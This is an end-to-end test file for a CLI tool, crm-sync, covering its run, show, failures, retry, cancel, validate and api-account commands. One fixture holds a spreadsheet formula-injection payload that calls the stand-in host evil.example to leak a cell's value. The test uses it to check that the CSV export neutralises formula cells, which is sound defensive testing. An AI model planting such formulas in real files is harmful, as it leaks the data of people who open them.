/**
 * The CLI as users run it, one process per command, against a sandbox
 * process and the test Redis: a whole run with `--json`, the same run through
 * `show`, `runs` and `failures` (formula-safe CSV), `retry`, attaching to a
 * run already queued, `validate` (a misspelt record stream included) and
 * `api-account create`. Exit codes and help: cli-help.test.ts.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  cliEnv,
  companiesCsv,
  companiesJob,
  countRequests,
  killAll,
  requireBuild,
  runCli,
  sandboxDump,
  sandboxStats,
  startSandboxProcess,
  tempDir,
  type SandboxProcess,
} from '../harness/cli.js';
import { useRedis } from '../harness/redis.js';
import { StateStore } from '../../src/state/store.js';

const { redis, prefix, url: redisUrl } = useRedis();
const apiKey = 'e2e-run-key-0123456789';
const files = tempDir('e2e-run');
const VALID = 300;
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
let sandbox: SandboxProcess;
let env: NodeJS.ProcessEnv;

interface Summary {
  runId: string;
  job: string;
  status: string;
  error?: string;
  counts: Record<string, number>;
}

beforeAll(async () => {
  requireBuild();
  sandbox = await startSandboxProcess(apiKey);
  const csv = files.write(
    'companies.csv',
    companiesCsv(VALID, [
      // Line 302: a formula where the id should be (invalid: not an integer).
      { 'Record ID': HYPERLINK, 'Company name': HYPERLINK },
      // Line 303: no name (invalid: required).
      { 'Record ID': '5000', 'Company name': '' },
      // Line 304: a name longer than the platform takes (rejected by a 400).
      { 'Record ID': '5001', 'Company name': 'N'.repeat(300) },
    ]),
  );
  files.write('companies.yaml', companiesJob(csv));
  files.write('queued.yaml', companiesJob(csv));
  // Most rows invalid: the invalid-share threshold stops it before writing.
  const broken = files.write(
    'broken.csv',
    companiesCsv(
      10,
      Array.from({ length: 20 }, (_, i) => ({ 'Record ID': String(9000 + i) })),
    ),
  );
  files.write(
    'broken.yaml',
    [
      'entity: companies',
      'source:',
      `  path: ${JSON.stringify(broken)}`,
      'mapping: hubspot-companies',
      '',
    ].join('\n'),
  );
  env = cliEnv({
    REDIS_URL: redisUrl,
    CRM_SYNC_PREFIX: prefix,
    CRM_SYNC_JOBS_DIR: files.dir,
    PLATFORM_BASE_URL: sandbox.url,
    PLATFORM_API_KEY: apiKey,
    PLATFORM_RATE_LIMIT: 500,
    OPS_PORT: 0,
    LOG_LEVEL: 'warn',
  });
});

afterAll(async () => {
  await killAll();
  files.remove();
});

const json = <T>(text: string): T => JSON.parse(text) as T;

describe('crm-sync run, show, runs, failures, retry', () => {
  let first: Summary;

  it("plan --json prints one JSON object with every row's action, not a sample", async () => {
    const r = await runCli(['plan', 'companies', '--json'], env);
    expect(r.code).toBe(0);
    const plan = json<{
      status: string;
      counts: Record<string, number>;
      actions: { kind: string; line: number; identity?: string }[];
    }>(r.stdout);
    expect(plan.status).toBe('dry-run');
    expect(plan.counts).toMatchObject({ read: VALID + 3, created: VALID + 1, invalid: 2 });
    // Every line of the export once, in order: the 100-per-kind sample of the text plan is not applied.
    expect(plan.actions.map((a) => a.line)).toEqual(
      Array.from({ length: VALID + 3 }, (_, i) => i + 2),
    );
    expect(plan.actions.filter((a) => a.kind === 'create')).toHaveLength(VALID + 1);
    // An invalid row that had an id keeps it: line 303 has Record ID 5000 and no name.
    expect(plan.actions.find((a) => a.line === VALID + 3)).toMatchObject({
      kind: 'invalid',
      identity: 'x:hubspot:company:5000',
    });
    const nothing = await sandboxStats(sandbox.url);
    expect(countRequests(nothing, 'POST', '/companies')).toBe(0);
  });

  it('run --with-worker --wait --json prints the completed run with exact counts', async () => {
    const r = await runCli(['run', 'companies', '--with-worker', '--wait', '--json'], env);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    first = json<Summary>(r.stdout);
    expect(first.status).toBe('completed');
    expect(first.job).toBe('companies');
    expect(first.counts).toMatchObject({
      read: VALID + 3,
      created: VALID,
      updated: 0,
      unchanged: 0,
      invalid: 2,
      rejected: 1,
      failed: 0,
      writesPlanned: VALID + 1,
      writesSettled: VALID + 1,
    });
    const dump = await sandboxDump(sandbox.url);
    expect(dump.companies).toHaveLength(VALID);
    expect(new Set(dump.companies!.map((c) => c.external_id)).size).toBe(VALID);
  });

  it('show RUN --json gives the same summary, and runs lists it', async () => {
    const shown = await runCli(['show', first.runId, '--json'], env);
    expect(shown.code).toBe(0);
    expect(json<Summary>(shown.stdout)).toEqual(first);
    // Without --json, the rate the workers share follows the summary (on stderr).
    const human = await runCli(['show', first.runId], env);
    expect(human.code).toBe(0);
    expect(human.stderr).toMatch(/^platform rate: [\d.]+\/s \(/m);

    const list = await runCli(['runs', '--json'], env);
    expect(list.code).toBe(0);
    const runs = json<Summary[]>(list.stdout);
    expect(runs.find((s) => s.runId === first.runId)).toEqual(first);

    const table = await runCli(['runs', '--job', 'companies'], env);
    const lines = table.stdout.trim().split('\n');
    expect(lines[0]).toMatch(/^RUN\s+JOB\s+STATUS\s+READ\s+CREATED/);
    expect(lines[1]).toMatch(
      new RegExp(
        `^${first.runId}\\s+companies\\s+completed\\s+${VALID + 3}\\s+${VALID}\\s+0\\s+0\\s+2\\s+1\\s+0\\s`,
      ),
    );
  });

  it('failures --csv is RFC 4180 with formula-safe cells; --json and the table agree', async () => {
    const r = await runCli(['failures', first.runId, '--csv'], env);
    expect(r.code).toBe(0);
    const rows = parse(r.stdout, { columns: true }) as Record<string, string>[];
    expect(rows.map((x) => [x.line, x.kind, x.field])).toEqual([
      ['302', 'invalid', 'crm_company_id'],
      ['303', 'invalid', 'name'],
      ['304', 'rejected', 'name'],
    ]);
    expect(rows[0]!.value).toBe(`'${HYPERLINK}`);
    for (const row of rows)
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(r.stdout).toContain('\r\n');

    const asJson = json<{ line: number; kind: string; value?: unknown }[]>(
      (await runCli(['failures', first.runId, '--json'], env)).stdout,
    );
    expect(asJson.map((f) => f.line)).toEqual([302, 303, 304]);
    expect(asJson[0]!.value).toBe(HYPERLINK);

    const page = json<{ line: number }[]>(
      (await runCli(['failures', first.runId, '--json', '--limit', '1', '--offset', '1'], env))
        .stdout,
    );
    expect(page.map((f) => f.line)).toEqual([303]);

    const table = await runCli(['failures', first.runId], env);
    expect(table.stdout).toMatch(/^LINE\s+KIND\s+FIELD\s+REASON\s+VALUE/);
    expect(table.stdout).toMatch(/304\s+rejected\s+name\s+platform said 400/);
    expect(table.stderr).toContain('3 row(s) not synced');
  });

  it('retry RUN runs the job again: the rejected row is sent again, nothing else', async () => {
    const before = countRequests(await sandboxStats(sandbox.url), 'POST', '/companies');
    const r = await runCli(['retry', first.runId, '--with-worker', '--json'], env);
    expect(r.code).toBe(0);
    const retried = json<Summary>(r.stdout);
    expect(retried.runId).not.toBe(first.runId);
    expect(retried.status).toBe('completed');
    expect(retried.counts).toMatchObject({
      read: VALID + 3,
      created: 0,
      unchanged: VALID,
      invalid: 2,
      rejected: 1,
      writesPlanned: 1,
    });
    const stats = await sandboxStats(sandbox.url);
    expect(countRequests(stats, 'POST', '/companies') - before).toBe(1);
    const record = await new StateStore(redis, { prefix }).runs.get(retried.runId);
    expect(record?.options).toMatchObject({ trigger: 'retry', retryOf: first.runId });

    const help = await runCli(['retry', '--help'], env);
    expect(help.code).toBe(0);
    expect(help.stdout).toContain('plans exactly the rows RUN');
  });

  it('run JOB while a run of JOB is queued attaches to it', async () => {
    const a = json<{ runId: string; attached: boolean; status: string }>(
      (await runCli(['run', 'queued', '--json'], env)).stdout,
    );
    expect(a).toMatchObject({ attached: false, status: 'queued' });
    const b = await runCli(['run', 'queued', '--json'], env);
    expect(b.code).toBe(0);
    expect(json(b.stdout)).toEqual({ runId: a.runId, attached: true, status: 'queued' });
    const shown = json<Summary>((await runCli(['show', a.runId, '--json'], env)).stdout);
    expect(shown).toMatchObject({ runId: a.runId, job: 'queued', status: 'queued' });
  });

  it('cancel RUN ends a queued run (show --wait exits 7); an ended, completing or unknown run exits 1', async () => {
    const queued = json<{ runId: string }>((await runCli(['run', 'queued', '--json'], env)).stdout);
    const c = await runCli(['cancel', queued.runId, '--json'], env);
    expect(c.code, c.stderr).toBe(0);
    expect(json(c.stdout)).toEqual({ runId: queued.runId, status: 'cancelled' });
    const shown = await runCli(['show', queued.runId, '--wait', '--json'], env);
    expect(shown.code).toBe(7);
    expect(json<Summary>(shown.stdout)).toMatchObject({ status: 'cancelled' });
    const human = await runCli(['show', queued.runId], env);
    expect(human.stdout).toContain(`crm-sync retry ${queued.runId}`);
    const again = await runCli(['cancel', queued.runId], env);
    expect(again.code).toBe(1);
    expect(again.stderr).toContain(`run ${queued.runId} has already ended (cancelled)`);
    const unknown = await runCli(['cancel', 'no-such-run'], env);
    expect(unknown.code).toBe(1);
    expect(unknown.stderr).toContain('no run no-such-run');
    // A run past its finalize's point of no return ends completed: the cancel is refused.
    const store = new StateStore(redis, { prefix });
    const completing = await store.runs.create({
      job: 'queued',
      entity: 'companies',
      mode: 'upsert',
      source: 'companies.csv',
    });
    await store.runs.update(completing, { status: 'finalizing' });
    expect(await store.runs.markCompleting(completing)).toBe(true);
    const late = await runCli(['cancel', completing], env);
    expect(late.code).toBe(1);
    expect(late.stderr).toContain(`run ${completing} is completing`);
    expect((await store.runs.get(completing))!.status).toBe('finalizing');
  });

  it('a run stopped by a safety threshold exits 5 and says why', async () => {
    const r = await runCli(['run', 'broken', '--with-worker', '--json'], env);
    expect(r.code).toBe(5);
    const s = json<Summary>(r.stdout);
    expect(s.status).toBe('stopped');
    expect(s.error).toMatch(/invalid/);
  });
});

describe('crm-sync validate', () => {
  it('prints one OK line per valid job and exits 0', async () => {
    const ok = tempDir('e2e-validate-ok');
    try {
      ok.write('a.yaml', companiesJob(files.path('companies.csv')));
      ok.write(
        'b.yaml',
        companiesJob(files.path('companies.csv'), "schedule: '0 3 * * *'\npriority: 3"),
      );
      const r = await runCli(['validate', '--jobs', ok.dir], env);
      expect(r.code).toBe(0);
      // a.yaml sets no priority: the effective one, 1.
      expect(r.stdout.trim().split('\n')).toEqual([
        `ok a: companies from ${files.path('companies.csv')} (mapping hubspot-companies, mode upsert, priority 1)`,
        `ok b: companies from ${files.path('companies.csv')} (mapping hubspot-companies, mode upsert, priority 3, schedule '0 3 * * *')`,
      ]);
    } finally {
      ok.remove();
    }
  });

  it('lists every problem of every file at once and exits 3', async () => {
    const bad = tempDir('e2e-validate-bad');
    try {
      bad.write('good.yaml', companiesJob(files.path('companies.csv')));
      bad.write('one.yaml', 'entity: planets\nsource: {}\nmapping: hubspot-companies\n');
      bad.write(
        'two.yaml',
        "entity: companies\nsource:\n  path: x.csv\nmapping: nope\nschedule: 'every day'\n",
      );
      // Loads, but its alerts could never be delivered: the variable is not set.
      bad.write(
        'hooked.yaml',
        companiesJob(files.path('companies.csv'), 'alerts:\n  webhook: ${E2E_UNSET_HOOK}'),
      );
      const r = await runCli(['validate', '--jobs', bad.dir], env);
      expect(r.code).toBe(3);
      expect(r.stdout).toMatch(/^ok good:/);
      expect(r.stderr).toContain(`${bad.path('one.yaml')}: entity`);
      expect(r.stderr).toContain(`${bad.path('one.yaml')}: source`);
      expect(r.stderr).toContain(`${bad.path('two.yaml')}: schedule`);
      expect(r.stderr).toContain(
        `${bad.path('hooked.yaml')}: alerts.webhook: the webhook names the environment variable E2E_UNSET_HOOK, which is not set`,
      );
      expect(r.stderr).toMatch(/problem\(s\) in .*; 2 job\(s\) valid/);
    } finally {
      bad.remove();
    }
  });
});

describe('crm-sync validate on a record stream', () => {
  it('fails when no line is a RECORD of the stream, naming the streams there', async () => {
    const dir = tempDir('e2e-validate-stream');
    try {
      const record = (id: string, name: string) =>
        JSON.stringify({
          type: 'RECORD',
          record: { stream: 'companies', data: { id, properties: { name } } },
        });
      const path = dir.write(
        'hubspot.ndjson',
        [
          record('101', 'Acme'),
          JSON.stringify({ type: 'STATE', state: {} }),
          record('102', 'Globex'),
        ].join('\n'),
      );
      // The job file with the stream under its source.
      const job = (stream: string) =>
        companiesJob(path).replace(/^( {2}path: .*)$/m, `$1\n  stream: ${stream}`);
      dir.write('right.yaml', job('companies'));
      dir.write('misspelt.yaml', job('company'));
      const r = await runCli(['validate', '--jobs', dir.dir], env);
      expect(r.code).toBe(3);
      expect(r.stdout).toMatch(/^ok misspelt:.*\nok right:/);
      expect(r.stderr).toContain(
        `${dir.path('misspelt.yaml')}: source.stream: no RECORD of stream "company" in the 3 values read: its streams are companies (2)`,
      );
      expect(r.stderr).toMatch(/export right: .*: 2 rows \(utf-8 2 rows\)\n/);
      expect(r.stderr).toMatch(/paths right: checked all 2 rows read from /);
      expect(r.stderr).toMatch(/1 problem\(s\) in .*; 2 job\(s\) valid/);
    } finally {
      dir.remove();
    }
  });
});

describe('crm-sync api-account create', () => {
  it('prints the new token once on stdout; the token is a working key', async () => {
    const r = await runCli(['api-account', 'create', 'crm-sync-e2e'], env);
    expect(r.code).toBe(0);
    const token = r.stdout.trim();
    expect(token).toMatch(/^\S{16,}$/);
    expect(r.stderr).not.toContain(token);
    expect(r.stderr).toMatch(/store this token as a secret/);
    const me = await fetch(`${sandbox.url}/account`, { headers: { Authorization: token } });
    expect(me.status).toBe(200);

    const j = await runCli(['api-account', 'create', 'crm-sync-e2e-2', '--json'], env);
    const made = json<{ name: string; status: string; token: string }>(j.stdout);
    expect(made).toMatchObject({ name: 'crm-sync-e2e-2', status: 'active' });
    expect(made.token).not.toBe(token);
  });
});
